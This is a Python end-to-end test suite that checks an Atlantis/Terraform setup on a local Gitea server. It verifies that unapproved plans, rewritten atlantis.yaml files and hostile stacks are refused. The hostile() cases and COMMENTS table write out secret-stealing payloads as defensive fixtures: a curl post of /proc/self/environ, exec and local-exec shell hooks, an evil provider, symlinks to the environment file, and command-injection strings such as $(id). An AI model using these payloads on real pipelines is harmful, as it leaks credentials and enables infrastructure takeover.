"""Pull requests on a real Git server, planned and applied by a real Atlantis that is configured as infra ships it.

Needs `atlantis` and `gitea` on the PATH, and `conftest` and `terraform`. The tests run in their order, each with pull
requests of its own. Infra is applied from a laptop first, as the documentation says; then Atlantis takes over.
"""

import hashlib
import hmac
import http.server
import json
import os
import re
import secrets
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.e2e.atlantis_server import AtlantisServer
from tests.e2e.cluster import KUBECONFIG, Workspace, kubectl, objects
from tests.e2e.git_server import HOST, NAME, OWNER, READER, ROBOT, GitServer, PullRequest
from tests.support import ROOT, on_the_path

pytestmark = pytest.mark.e2e

STACKS = ("infra", "prod", "staging", "test")
Change = Callable[[Path], object]


@dataclass
class Platform:
    """Everything that a pull request meets."""

    git: GitServer
    atlantis: AtlantisServer
    main: Path
    listener: "Listener"

    def open(self, branch: str, change: Change) -> PullRequest:
        return PullRequest(self.git, self.main, branch, change)


class Listener:
    """What a hostile stack would call, if it could."""

    def __init__(self) -> None:
        heard: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_error(404)

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.heard = heard
        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def binaries() -> dict[str, str]:
    found = {name: shutil.which(name) for name in ("atlantis", "gitea", "conftest", "terraform")}
    for name, path in found.items():
        if path is None:
            pytest.skip(f"needs {name} on the PATH")
    return {name: str(path) for name, path in found.items()}


@pytest.fixture(scope="module")
def git_server(binaries: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitServer]:
    server = GitServer(tmp_path_factory.mktemp("gitea"), binary=binaries["gitea"])
    try:
        server.fill()
        yield server
    finally:
        server.stop()


def move_state(workspace: Workspace, backend: str) -> None:
    """Move the state of every stack to another backend."""
    cdktf = workspace.root / "cdktf.json"
    content = json.loads(cdktf.read_text(encoding="utf-8"))
    content["context"]["backend"] = {"type": backend}
    cdktf.write_text(json.dumps(content, indent=2), encoding="utf-8")
    workspace.synthesize()
    for stack in STACKS:
        folder = workspace.root / "terraform" / "stacks" / stack
        if "TF_CLI_CONFIG_FILE" in os.environ:
            (folder / ".terraform.lock.hcl").unlink(missing_ok=True)
        move = [on_the_path("terraform"), "init", "-input=false", "-no-color", "-migrate-state", "-force-copy"]
        with_access = {**os.environ, "KUBE_CONFIG_PATH": KUBECONFIG}
        moved = subprocess.run(move, cwd=folder, env=with_access, capture_output=True, text=True, check=False)  # noqa: S603
        assert moved.returncode == 0, moved.stderr


def configure(root: Path, git_server: GitServer) -> None:
    """Say where the repository lies, in each stack's own file."""
    mirror = os.environ.get("CHART_MIRROR")
    for path in (root / "envs").glob("*.tfvars"):
        text = (ROOT / "envs" / path.name).read_text(encoding="utf-8")
        path.write_text(text + (f'\nchart_mirror = "{mirror}"\n' if mirror else ""), encoding="utf-8")
    settings = {
        "vcs": '"gitea"',
        "repository": f'"{HOST}/{OWNER}/{NAME}"',
        "base_url": f'"{git_server.address}"',
        "port": git_server.port,
        "user": f'"{ROBOT}"',
    }
    block = "".join(f"  {key} = {value}\n" for key, value in settings.items())
    replace(root / "envs" / "infra.tfvars", r"atlantis = \{\n[^}]*\}", f"atlantis = {{\n{block}}}")


@pytest.fixture(scope="module")
def platform(
    workspace: Workspace,
    git_server: GitServer,
    binaries: dict[str, str],
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Platform]:
    """Infra applied from a laptop and its state moved, then the repository pushed and Atlantis started."""
    root = workspace.root
    configure(root, git_server)
    # A state that Atlantis takes.
    move_state(workspace, "kubernetes")
    webhook_secret = secrets.token_hex(32)
    keys = {"gitea_token": git_server.tokens[ROBOT], "gitea_secret": webhook_secret}
    kubectl("delete", "secret", "atlantis-vcs", "--namespace=iac", "--ignore-not-found")
    literals = [f"--from-literal={key}={value}" for key, value in keys.items()]
    made = kubectl("create", "secret", "generic", "atlantis-vcs", "--namespace=iac", *literals)
    assert made.returncode == 0, made.stderr
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("KUBE_CONFIG_PATH", KUBECONFIG)
        workspace.apply("infra")
    own_lock = root / "terraform" / "stacks" / "infra" / ".terraform.lock.hcl"
    atlantis = AtlantisServer(
        tmp_path_factory.mktemp("atlantis"),
        binary=binaries["atlantis"],
        git_server=git_server,
        lock_file=own_lock if "TF_CLI_CONFIG_FILE" in os.environ else None,
    )
    listener = Listener()
    try:
        atlantis.wait_until_up()
        main = tmp_path_factory.mktemp("checkouts") / "main"
        ignored = shutil.ignore_patterns(".terraform", ".state", "__pycache__")
        shutil.copytree(root, main, ignore=ignored)
        git_server.git(main, "init", "--quiet")
        git_server.git(main, "add", "--all", "--force")
        git_server.git(main, "commit", "--quiet", "--message", "The platform")
        git_server.git(main, "push", "--quiet", git_server.remote, "HEAD:refs/heads/main", who=OWNER)
        git_server.protect()
        git_server.send_events(f"{atlantis.address}/events", webhook_secret)
        yield Platform(git_server, atlantis, main, listener)
    finally:
        atlantis.stop()
        listener.stop()
    # It lies in the namespaces that are destroyed in the end.
    move_state(workspace, "local")


# What a pull request changes.


def replace(path: Path, pattern: str, by: str) -> None:
    text = path.read_text(encoding="utf-8")
    changed, count = re.subn(pattern, lambda _: by, text, count=1)
    assert count == 1, f"{path}: {pattern}"
    path.write_text(changed, encoding="utf-8")


def redis_memory(stack: str, size: str) -> Change:
    return lambda folder: replace(
        folder / "envs" / f"{stack}.tfvars", r'(?<=redis = \{\n)  memory  = "[^"]*"', f'  memory  = "{size}"'
    )


def postgres_memory(stack: str, size: str) -> Change:
    return lambda folder: replace(
        folder / "envs" / f"{stack}.tfvars",
        r'(?<=postgres = \{\n  instances = 1\n)  memory    = "[^"]*"',
        f'  memory    = "{size}"',
    )


def merge(value: Any, patch: Any) -> Any:  # noqa: ANN401 (JSON)
    """Merge JSON as RFC 7386 says, but take lists for objects of one item where the patch has an object."""
    if not isinstance(patch, dict):
        return patch
    merged = dict(value) if isinstance(value, dict) else {}
    for key, change in patch.items():
        if change is None:
            merged.pop(key, None)
        else:
            merged[key] = merge(merged.get(key), change)
    return merged


def stack_file(folder: Path, stack: str) -> Path:
    return folder / "terraform" / "stacks" / stack / "cdk.tf.json"


def patched(patch: dict[str, Any], *stacks: str) -> Change:
    """Merge a patch into the JSON of stacks."""

    def change(folder: Path) -> None:
        for stack in stacks or STACKS:
            path = stack_file(folder, stack)
            content = merge(json.loads(path.read_text(encoding="utf-8")), patch)
            path.write_text(json.dumps(content, indent=2), encoding="utf-8")

    return change


def with_file(name: str, content: str, *, beside_the_stack: bool = True) -> Change:
    """Add a file beside every stack, or to the repository."""

    def change(folder: Path) -> None:
        places = [stack_file(folder, stack).parent for stack in STACKS] if beside_the_stack else [folder]
        for place in places:
            path = place / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content, encoding="utf-8")

    return change


def linked(name: str, target: str) -> Change:
    """Put a symbolic link in the place of every stack's file."""

    def change(folder: Path) -> None:
        for stack in STACKS:
            path = folder / name.format(stack=stack)
            path.unlink(missing_ok=True)
            path.symlink_to(target)

    return change


def with_settings(**settings: str) -> Change:
    """Give every tfvars file settings, in the place of those that it has."""

    def change(folder: Path) -> None:
        for path in (folder / "envs").iterdir():
            lines = path.read_text(encoding="utf-8").splitlines()
            kept = [line for line in lines if not line.startswith(tuple(f"{key} " for key in settings))]
            more = [f'{key} = "{value}"' for key, value in settings.items()]
            path.write_text("\n".join([*kept, *more, ""]), encoding="utf-8")

    return change


def in_text(pattern: str, by: str) -> Change:
    """Change the text of every stack's JSON, where equal keys can be written."""

    def change(folder: Path) -> None:
        for stack in STACKS:
            replace(stack_file(folder, stack), pattern, by)

    return change


def projects(change: Callable[[dict[str, Any]], object]) -> Change:
    """Rewrite atlantis.yaml."""

    def rewrite(folder: Path) -> None:
        path = folder / "atlantis.yaml"
        document = yaml.safe_load(path.read_text(encoding="utf-8"))
        change(document)
        path.write_text(yaml.safe_dump(document, sort_keys=False), encoding="utf-8")

    return rewrite


def each_project(**settings: object) -> Change:
    return projects(lambda document: [project.update(settings) for project in document["projects"]])


def project(name: str, **settings: object) -> Change:
    return projects(
        lambda document: [project.update(settings) for project in document["projects"] if project["name"] == name]
    )


EVERYTHING = {"autoplan": {"enabled": True, "when_modified": ["**", "../../../**"]}, "depends_on": []}


def together(*changes: Change) -> Change:
    def change(folder: Path) -> None:
        for part in changes:
            part(folder)

    return change


# What is in the cluster.


def redis_limit(stack: str) -> str | None:
    found = [
        item for item in objects("statefulsets", f"--namespace=data-{stack}") if item["metadata"]["name"] == "redis"
    ]
    if not found:
        return None
    limit: str = found[0]["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["memory"]
    return limit


def postgres_limit(stack: str) -> str:
    found = kubectl("get", "clusters.postgresql.cnpg.io", f"--namespace=data-{stack}", "--output=json")
    (cluster,) = json.loads(found.stdout)["items"]
    limit: str = cluster["spec"]["resources"]["limits"]["memory"]
    return limit


def quota(namespace: str) -> str:
    found = kubectl("get", "resourcequota", "environment", f"--namespace={namespace}", "--output=json")
    hard: dict[str, str] = json.loads(found.stdout)["spec"]["hard"]
    return hard["limits.memory"]


def states(*stacks: str) -> list[str]:
    """The version of each stack's state; one that is not there has none."""
    places = [("iac" if stack == "infra" else f"data-{stack}", stack) for stack in stacks]
    return [
        kubectl(
            "get",
            "secret",
            f"tfstate-default-{stack}",
            f"--namespace={namespace}",
            "--ignore-not-found",
            "--output=jsonpath={.metadata.resourceVersion}",
        ).stdout
        for namespace, stack in places
    ]


_table: list[str] = []


def seen(words: str, answer: str = "") -> None:
    """Note a case that held, with what Atlantis said."""
    told = re.search(r"FAIL - [^\n]*|refused: [^\n]*|(?:Apply complete|Plan:|Error:)[^\n]*", answer)
    lines = [line for line in answer.splitlines() if re.match(r"[^`*<]", line)]
    said = re.sub(r"\S*/", "", told.group() if told else next(iter(lines), ""))
    _table.append(f"{words:<78} {said[:150]}".rstrip())


@pytest.fixture(scope="module", autouse=True)
def _print_the_table() -> Iterator[None]:
    yield
    print(f"\n{len(_table)} cases\n" + "\n".join(_table))  # noqa: T201 (the table is what is asked for)


def assert_said(answer: str, words: str, case: str) -> None:
    assert words in answer, f"{case}: {answer}"
    seen(case, answer)


APPROVAL = "only after somebody has approved the pull request"
OF_THIS_COMMIT = "only after somebody who may merge has approved this commit"


def test_a_change_of_staging_plans_by_itself_and_a_bare_apply_applies_it(platform: Platform) -> None:
    others = states("infra", "prod", "test")
    pull = platform.open("staging-redis", redis_memory("staging", "320Mi"))
    answer = pull.answer()
    assert "Ran Plan for project: `staging` dir: `terraform/stacks/staging`" in answer, answer
    assert "project: `prod`" not in answer
    assert "project: `infra`" not in answer
    assert_said(answer, "Plan: ", "staging's tfvars change: staging plans by itself")
    assert pull.wait_for_status("atlantis/plan", "success") == "1/1 projects planned successfully."
    assert all("/staging" in call for call in platform.atlantis.calls())
    seen("no other stack plans")

    answer = pull.ask("atlantis apply")
    assert "Ran Apply for project: `staging`" in answer, answer
    assert_said(answer, "Apply complete!", "a bare apply applies staging")
    assert pull.wait_for_status("atlantis/apply", "success") == "1/1 projects applied successfully."
    assert redis_limit("staging") == "320Mi"
    seen("the value is in staging's StatefulSet")
    assert states("infra", "prod", "test") == others
    seen("the states of infra, prod and test are untouched")
    pull.merge()


def test_prod_and_infra_are_planned_and_applied_only_after_an_approval(platform: Platform) -> None:
    def change(folder: Path) -> None:
        redis_memory("prod", "1152Mi")(folder)
        replace(folder / "envs" / "infra.tfvars", r'(?<=data       = \{ memory = )"8Gi"', '"9Gi"')

    before, applied = redis_limit("prod"), states("infra", "prod")
    pull = platform.open("shared", change)
    assert pull.wait_for_status("atlantis/plan", "success") == "0/0 projects planned successfully."
    seen("prod's and infra's tfvars change: nothing plans by itself")
    calls = len(platform.atlantis.calls())
    for stack in ("prod", "infra"):
        refused = f"refused: {stack} is planned {APPROVAL}: ask for a review, then comment again"
        assert_said(pull.ask(f"atlantis plan -p {stack}"), refused, f"atlantis plan -p {stack} before the approval")
        pull.wait_for_status(f"atlantis/plan: {stack}", "failure")
    assert_said(pull.ask("atlantis plan"), "Ran Plan for 0 projects", "a bare plan plans neither")
    assert len(platform.atlantis.calls()) == calls

    pull.review()
    answer = pull.ask("atlantis plan -p infra")
    assert_said(answer, "limits.memory", "atlantis plan -p infra after the approval")
    (plan,) = [call for call in platform.atlantis.calls()[calls:] if " plan " in call]
    assert plan.index("-var-file=") < plan.index("-var=enable_infra=true") < plan.index("kubeconfig-infra")
    seen("infra is planned with enable_infra=true and as its own deployer, after the tfvars file")
    answer = pull.ask("atlantis apply -p infra")
    assert_said(answer, "Apply complete!", "atlantis apply -p infra")
    assert quota("data-prod") == "9Gi"
    assert states("infra") != applied[:1]
    seen("the quota is in the cluster")

    assert_said(pull.ask("atlantis plan -p prod"), "Plan: ", "atlantis plan -p prod after the approval")
    (plan,) = [call for call in platform.atlantis.calls()[calls:] if " plan " in call and "/prod" in call]
    assert "-var=enable_infra=false" in plan
    assert redis_limit("prod") == before
    assert_said(pull.ask("atlantis apply -p prod"), "Apply complete!", "atlantis apply -p prod")
    assert redis_limit("prod") == "1152Mi"
    seen("the value is in prod's StatefulSet")
    pull.merge()


def test_an_approval_counts_only_while_it_stands_and_only_of_those_who_may_merge(platform: Platform) -> None:
    applied = states("prod")
    pull = platform.open("withdrawn", redis_memory("prod", "1280Mi"))
    pull.review(who=READER)
    answer = pull.ask("atlantis plan -p prod")
    assert_said(answer, f"refused: prod is planned {OF_THIS_COMMIT}", "the approval of somebody who may only read")
    approval = pull.review()
    assert_said(pull.ask("atlantis plan -p prod"), "Plan: ", "the approval of somebody who may merge")
    pull.dismiss(approval)
    answer = pull.ask("atlantis apply -p prod")
    assert_said(answer, f"refused: prod is applied {OF_THIS_COMMIT}", "an apply after the approval was dismissed")
    pull.review()
    pull.push(redis_memory("prod", "1344Mi"))
    pull.wait_for_status("atlantis/plan", "success")
    answer = pull.ask("atlantis plan -p prod")
    assert_said(answer, f"refused: prod is planned {OF_THIS_COMMIT}", "a plan of a commit that came after the approval")
    pull.review()
    pull.review("REQUEST_CHANGES")
    answer = pull.ask("atlantis plan -p prod")
    assert_said(answer, f"refused: prod is planned {OF_THIS_COMMIT}", "a plan after the reviewer wants changes")
    assert states("prod") == applied
    pull.unlock_and_close()


REWRITTEN: dict[str, tuple[Change, str]] = {
    "staging with the workflow infra": (
        project("staging", workflow="infra"),
        "refused: there is no project 'staging' in 'terraform/stacks/staging' with the workflow 'infra'",
    ),
    "staging with the workflow prod": (project("staging", workflow="prod"), "with the workflow 'prod'"),
    "staging without a workflow": (
        projects(lambda document: [project.pop("workflow") for project in document["projects"]]),
        "refused: only the projects of atlantis.yaml are planned",
    ),
    "staging's folder with the name infra": (
        projects(
            lambda document: document.update(
                projects=[
                    {**next(p for p in document["projects"] if p["name"] == "staging"), "name": "infra"},
                ]
            )
        ),
        "refused: there is no project 'infra' in 'terraform/stacks/staging' with the workflow 'environment'",
    ),
    "staging's folder with infra's name and workflow": (
        projects(
            lambda document: document.update(
                projects=[
                    {
                        **next(p for p in document["projects"] if p["name"] == "staging"),
                        "name": "infra",
                        "workflow": "infra",
                    },
                ]
            )
        ),
        "refused: there is no project 'infra' in 'terraform/stacks/staging' with the workflow 'infra'",
    ),
    "staging in prod's folder": (
        project("staging", dir="terraform/stacks/prod", **EVERYTHING),
        "refused: there is no project 'staging' in 'terraform/stacks/prod' with the workflow 'environment'",
    ),
    "staging in a workspace of its own": (
        project("staging", workspace="other"),
        "refused: there is no workspace 'other': leave out -w",
    ),
    "a workflow of its own": (
        projects(
            lambda document: document.update(
                workflows={"mine": {"plan": {"steps": [{"run": "env"}]}}},
                projects=[{**project, "workflow": "mine"} for project in document["projects"]],
            )
        ),
        "repo config not allowed to define custom workflows",
    ),
    "a project in another folder": (
        together(
            projects(
                lambda document: document["projects"].append(
                    {"name": "mine", "dir": "charts", "workflow": "environment", "autoplan": EVERYTHING["autoplan"]}
                )
            ),
            project("staging", autoplan={"enabled": False}),
            with_file("charts/main.tf", 'output "x" { value = 1 }', beside_the_stack=False),
        ),
        "refused: there is no project 'mine' in 'charts' with the workflow 'environment'",
    ),
    "another version of Terraform": (project("staging", terraform_version="0.11.15"), "0.11.15"),
    "requirements of its own": (project("staging", apply_requirements=[]), "apply_requirements"),
    "locks of its own": (project("staging", repo_locks={"mode": "disabled"}), "repo_locks"),
}


def test_a_rewritten_atlantis_yaml_gains_nothing(platform: Platform) -> None:
    before = states(*STACKS)
    calls = len(platform.atlantis.calls())

    def attempt(case: tuple[int, str]) -> tuple[str, str]:
        number, words = case
        change, _ = REWRITTEN[words]
        pull = platform.open(f"rewritten-{number}", together(change, redis_memory("staging", "384Mi")))
        answer = pull.answer()
        pull.ask("atlantis apply")
        pull.close()
        return words, answer

    with ThreadPoolExecutor(max_workers=4) as pool:
        for words, answer in pool.map(attempt, enumerate(REWRITTEN)):
            assert_said(answer, REWRITTEN[words][1], f"atlantis.yaml: {words}")
    assert platform.atlantis.calls()[calls:] == []
    assert states(*STACKS) == before


def test_a_folder_that_atlantis_yaml_does_not_name_is_not_found(platform: Platform) -> None:
    discovered = projects(lambda document: document.update(autodiscover={"mode": "enabled"}, projects=[]))
    pull = platform.open("discovered", together(discovered, redis_memory("staging", "384Mi")))
    assert pull.wait_for_status("atlantis/plan", "success") == "0/0 projects planned successfully."
    seen("atlantis.yaml: autodiscover, and no project")
    answer = pull.ask("atlantis plan -d terraform/stacks/staging")
    words = "refused: only the projects of atlantis.yaml are planned"
    assert_said(answer, words, "atlantis.yaml: autodiscover, and atlantis plan -d terraform/stacks/staging")
    pull.close()


def test_whatever_atlantis_yaml_lets_plan_the_guarded_stacks_wait(platform: Platform) -> None:
    before, calls = states("infra", "prod"), len(platform.atlantis.calls())
    everything = together(
        each_project(**EVERYTHING, terraform_distribution="opentofu"),
        projects(lambda document: document.update(parallel_plan=True, parallel_apply=True)),
        redis_memory("staging", "352Mi"),
    )
    pull = platform.open("everything", everything)
    parts = sections(pull.answer())
    for stack in ("infra", "prod"):
        words = f"refused: {stack} is planned {APPROVAL}"
        assert_said(parts[stack], words, f"atlantis.yaml: when_modified everything, in {stack}")
    for stack in ("staging", "test"):
        assert_said(parts[stack], "Plan: ", f"atlantis.yaml: when_modified everything, in {stack}")
    identities = {(folder(call), kubeconfig(call)) for call in platform.atlantis.calls()[calls:]}
    assert identities == {("staging", "staging"), ("test", "test")}
    seen("each stack is planned by Terraform and as its own deployer, whatever atlantis.yaml says")
    assert "Apply complete" not in pull.ask("atlantis apply -p infra")
    assert "Apply complete" not in pull.ask("atlantis apply -p prod")
    assert states("infra", "prod") == before
    seen("neither infra nor prod is applied")
    pull.unlock_and_close()


def test_what_is_applied_is_merged_by_people(platform: Platform) -> None:
    automerge = projects(lambda document: document.update(automerge=True))
    pull = platform.open("automerge", together(automerge, redis_memory("staging", "352Mi")))
    assert "Plan: " in pull.answer()
    assert_said(pull.ask("atlantis apply"), "Apply complete!", "atlantis.yaml: automerge, staging is applied")
    assert "Automatically merging" in pull.answer()
    words = "the protected branch takes nothing that nobody has approved"
    assert_said(pull.answer(), "Automerging failed", words)
    assert not pull.is_merged
    pull.unlock_and_close()


def sections(answer: str) -> dict[str, str]:
    """Return the parts of an answer for several projects, by the project's name."""
    parts = re.split(r"\n### \d+\. ", answer)[1:]
    return {re.findall(r"project: `([^`]*)`", part)[0]: part for part in parts}


def folder(call: str) -> str:
    """Return the stack that Terraform was called in."""
    return str(re.findall(r"^-chdir=\S*/terraform/stacks/(\S+)", call)[0])


def kubeconfig(call: str) -> str:
    """Return whose kubeconfig a call was given; one that was given none has none to choose."""
    found = re.findall(r"-var=kubeconfig=\S*/kubeconfig-(\S+)", call)
    return str(found[0]) if found else folder(call)


COMMENTS: dict[str, str] = {
    "atlantis plan -p staging -- -var=kubeconfig=/etc/kubernetes/admin.conf": "refused: nothing may follow --",
    "atlantis plan -p staging -- -destroy": "refused: nothing may follow --",
    "atlantis plan -p staging -- -var-file=/proc/self/environ": "is not allowed by the current allowlist",
    "atlantis plan -- -target=helm_release.redis_release": "refused: nothing may follow --",
    "atlantis plan -p infra -- -var=enable_infra=true": "refused: nothing may follow --",
    "atlantis plan -p staging -w other": "cannot use -p/--project at same time as -d/--dir or -w/--workspace",
    "atlantis plan -d terraform/stacks/staging -w other": 'running commands in workspace "other" is not allowed',
    "atlantis plan -d charts": "refused: only the projects of atlantis.yaml are planned",
    "atlantis plan -d terraform/stacks": "refused: only the projects of atlantis.yaml are planned",
    "atlantis plan -d ../..": 'using a relative path "../.." with -d/--dir is not allowed',
    "atlantis plan -p mine": "no project with name 'mine' is defined",
    "atlantis plan -p 'staging;id'": "no project with name 'staging;id' is defined",
    "atlantis plan -p $(id)": "no project with name '$(id)' is defined",
    "atlantis apply -d charts": "cannot be applied",
    "atlantis apply -p staging -- -auto-approve": "cannot be applied",
    "atlantis import -p staging helm_release.redis_release data-staging/redis": 'unknown command "import"',
    "atlantis state -p staging rm helm_release.redis_release": 'unknown command "state"',
    "atlantis approve_policies": 'unknown command "approve_policies"',
    "atlantis version": 'unknown command "version"',
}


def test_what_a_comment_asks_beyond_a_project_is_refused(platform: Platform) -> None:
    pull = platform.open("comments", redis_memory("staging", "416Mi"))
    assert "Plan: " in pull.answer()
    before, calls = states(*STACKS), len(platform.atlantis.calls())
    for comment, words in COMMENTS.items():
        answer = pull.ask(comment)
        assert "Plan: " not in answer, f"{comment}: {answer}"
        assert "Apply complete" not in answer, f"{comment}: {answer}"
        assert_said(answer, words, comment)
    assert platform.atlantis.calls()[calls:] == []
    assert states(*STACKS) == before
    pull.unlock_and_close()


def hostile(listener: str) -> dict[str, tuple[Change, str]]:
    """Hostile changes to every stack, and what refuses them."""
    tell = f"curl --silent --data-binary @/proc/self/environ {listener}/"
    shell = ["sh", "-c", tell]
    environment = '${file("/proc/self/environ")}'
    reads = "the function file is not among those that a stack may call"
    alone = "is not of make synth's making"
    execs = {"api_version": "client.authentication.k8s.io/v1", "command": "sh", "args": shell[1:]}
    refuses = {"condition": '${file("/proc/self/environ") == ""}', "error_message": environment}
    foreign = {"source": "example.com/evil/evil", "version": "1.0.0"}
    external = {"external": {"x": {"program": shell}}}
    provisioner = {"x": {"provisioner": [{"local-exec": {"command": tell}}]}}
    release = {"x": {"name": "x", "chart": "x", "postrender": {"binary_path": "/bin/sh", "args": shell[1:]}}}
    return {
        "data.external": (patched({"data": external}), "data: a stack has no such block"),
        "a provider's exec": (
            patched({"provider": {"kubernetes": [{"host": "https://localhost", "exec": [execs]}]}}),
            "provider: only the synthesized configuration may stand here",
        ),
        "file() in a value": (patched({"locals": {"x": environment}}), reads),
        "file() in a key": (patched({"locals": {"x": {environment: "x"}}}), reads),
        "file() in a validation": (patched({"variable": {"x": {"default": "", "validation": [refuses]}}}), reads),
        "a foreign provider": (
            patched({"terraform": {"required_providers": {"evil": foreign}}}),
            "terraform: only the synthesized backend and providers may stand here",
        ),
        "local-exec": (patched({"resource": {"terraform_data": provisioner}}), "terraform_data"),
        "a backend elsewhere": (
            patched({"terraform": {"backend": {"kubernetes": None, "http": {"address": listener}}}}),
            "terraform: only the synthesized backend and providers may stand here",
        ),
        "helm's postrender": (patched({"resource": {"helm_release": release}}), "helm_release"),
        "a module": (patched({"module": {"x": {"source": f"{listener}/x.zip"}}}), "module: a stack has no such block"),
        "a data source over HTTP": (
            patched({"data": {"http": {"x": {"url": listener}}}}),
            "data: a stack has no such block",
        ),
        "equal keys, the last one hostile": (
            in_text(r'\n  "variable": \{', '\n  "terraform": {"backend": {"local": {}}},\n  "variable": {'),
            "terraform: only the synthesized backend and providers may stand here",
        ),
        "another .tf file": (with_file("x.tf", f'data "external" "x" {{ program = {json.dumps(shell)} }}\n'), alone),
        "an override file": (with_file("override.tf.json", json.dumps({"data": external})), alone),
        "values that load themselves": (with_file("x.auto.tfvars", 'kubeconfig = "/x"\n'), alone),
        "a folder .terraform": (with_file(".terraform/environment", "other"), alone),
        "a folder env": (with_file("env/default.tfvars", 'kubeconfig = "/x"\n'), alone),
        "a configuration of Terraform": (with_file(".terraformrc", 'plugin_cache_dir = "/x"\n'), alone),
        "a configuration of conftest": (with_file("conftest.toml", "no-fail = true\n"), alone),
        "a plan that is brought along": (with_file("x-default.tfplan", "x"), alone),
        "a link for the tfvars file": (linked("envs/{stack}.tfvars", "/proc/self/environ"), "is a symbolic link"),
        "a link for the stack": (
            linked("terraform/stacks/{stack}/cdk.tf.json", "/proc/self/environ"),
            "is a symbolic link",
        ),
        "kubeconfig in the tfvars file": (with_settings(kubeconfig="/x"), "kubeconfig: never in a tfvars file"),
        "a mirror of charts elsewhere": (
            with_settings(chart_mirror="oci://example.com/charts"),
            "chart_mirror: found another mirror",
        ),
    }


def test_hostile_stacks_are_refused_before_init_in_every_project_and_workflow(platform: Platform) -> None:
    cases = hostile(platform.listener.address)
    calls, before = len(platform.atlantis.calls()), states(*STACKS)

    def attempt(case: tuple[int, str]) -> tuple[str, dict[str, str]]:
        number, words = case
        pull = platform.open(f"hostile-{number}", together(cases[words][0], each_project(**EVERYTHING)))
        answers = sections(pull.answer())
        pull.review()
        answers |= {stack: pull.ask(f"atlantis plan -p {stack}") for stack in ("infra", "prod")}
        pull.close()
        return words, answers

    with ThreadPoolExecutor(max_workers=4) as pool:
        for words, answers in pool.map(attempt, enumerate(cases)):
            assert set(answers) == set(STACKS), f"{words}: {answers}"
            for stack, answer in answers.items():
                assert "refused: " in answer, f"{words}: {answer}"
                assert_said(answer, cases[words][1], f"hostile, in {stack}: {words}")
    assert platform.atlantis.calls()[calls:] == []
    seen("Terraform was never called for any of them")
    assert platform.listener.heard == []
    seen("nobody called the listener")
    assert states(*STACKS) == before


def test_of_equal_keys_terraform_reads_the_one_that_was_checked(platform: Platform) -> None:
    keys = '"terraform": {"required_providers": {"evil": {"source": "example.com/evil/evil"}}},\n  "terraform": {'
    pull = platform.open("equal-keys", in_text(r'"terraform": \{', keys))
    answer = pull.answer()
    assert "evil" not in answer
    assert "Error" not in answer, answer
    seen("equal keys, the first one hostile: only the last one is read", answer)
    pull.close()


def test_staging_cannot_answer_for_prods_host(platform: Platform) -> None:
    def change(folder: Path) -> None:
        path = stack_file(folder, "staging")
        content = json.loads(path.read_text(encoding="utf-8"))
        for ingress in content["resource"]["kubernetes_ingress_v1"].values():
            ingress["spec"]["rule"][0]["host"] = "signoz.example.com"
        path.write_text(json.dumps(content, indent=2), encoding="utf-8")

    pull = platform.open("host", change)
    assert "signoz.example.com" in pull.answer()
    answer = pull.ask("atlantis apply -p staging")
    assert "Apply complete" not in answer
    words = "host names of staging begin with x-staging- or x-staging."
    assert_said(" ".join(answer.split()), words, "an Ingress of staging with prod's host")
    hosts = [
        rule["host"]
        for item in objects("ingresses", "--namespace=monitoring-staging")
        for rule in item["spec"]["rules"]
    ]
    assert all(host.startswith("x-staging-") for host in hosts)
    pull.unlock_and_close()


def test_of_two_pull_requests_the_second_waits_until_the_first_is_done(platform: Platform) -> None:
    first = platform.open("first", redis_memory("staging", "448Mi"))
    second = platform.open("second", postgres_memory("staging", "640Mi"))
    for pull in (first, second):
        assert "Plan: " in pull.answer()
    assert_said(first.ask("atlantis apply"), "Apply complete!", "two pull requests: the first is applied")
    answer = second.ask("atlantis apply")
    assert "Apply complete" not in answer, answer
    assert_said(answer, f"#{first.number}", "two pull requests: the second waits for the first")
    first.merge()
    answer = second.ask("atlantis apply")
    assert "Apply complete" not in answer, answer
    seen("two pull requests: what was merged since must be taken in first", answer)
    assert postgres_limit("staging") != "640Mi"
    answer = second.ask("atlantis plan")
    assert "Plan: " in answer, answer
    assert_said(
        second.ask("atlantis apply"), "Apply complete!", "two pull requests: planned again, the second is applied"
    )
    assert (redis_limit("staging"), postgres_limit("staging")) == ("448Mi", "640Mi")
    second.merge()


def test_the_server_takes_no_webhook_and_no_call_that_is_not_the_git_servers(platform: Platform) -> None:
    calls = len(platform.atlantis.calls())
    body = json.dumps({"action": "created"}).encode()
    event = {"X-Gitea-Event": "issue_comment", "X-Gitea-Event-Type": "pull_request_comment"}
    for words, headers in {
        "a webhook without a signature": event,
        "a webhook that is signed with another secret": {
            **event,
            "X-Gitea-Signature": hmac.new(b"other", body, hashlib.sha256).hexdigest(),
        },
    }.items():
        assert platform.atlantis.request("/events", body, headers) == 400
        seen(words)
    for path in ("/", "/locks", "/api/plan", "/api/apply", "/metrics"):
        status = platform.atlantis.request(path, b"{}" if path.startswith("/api") else None)
        assert status in (400, 401, 403, 404, 503), f"{path}: {status}"
        seen(f"{path} without a password: {status}")
    # It has no secret of a repository's, and Traefik leads nobody to it: tests/test_telemetry.py.
    assert platform.atlantis.request("/api/metrics") == 200
    assert len(platform.atlantis.calls()) == calls


def test_no_secret_is_in_a_comment_a_log_a_plan_or_terraforms_environment(platform: Platform) -> None:
    pulls = platform.git.repository("GET", "/pulls?state=all&limit=50")
    pulls += platform.git.repository("GET", "/pulls?state=all&limit=50&page=2")
    texts = [("a pull request", json.dumps(pulls).encode()), *platform.atlantis.written()]
    for pull in pulls:
        comments = platform.git.repository("GET", f"/issues/{pull['number']}/comments")
        texts.append((f"the comments of {pull['number']}", json.dumps(comments).encode()))
    assert len(texts) > len(pulls)
